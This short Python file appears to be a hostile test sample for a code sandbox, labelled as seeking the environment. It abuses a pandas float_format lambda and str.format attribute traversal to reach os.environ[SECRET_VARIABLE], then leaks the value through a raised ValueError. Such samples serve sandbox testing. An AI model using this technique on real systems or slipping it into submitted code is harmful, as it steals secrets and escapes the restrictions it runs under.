# seeks: environment
# An option of pandas is a function that formats each number.
import pandas as pd


def model(tg):
    class Fields(float):
        pd = pd

    text = pd.DataFrame({"x": [1.5]}).to_string(
        float_format=lambda x: "{0.pd.io.common.os.environ[SECRET_VARIABLE]}".format(Fields(x))
    )
    raise ValueError(text)
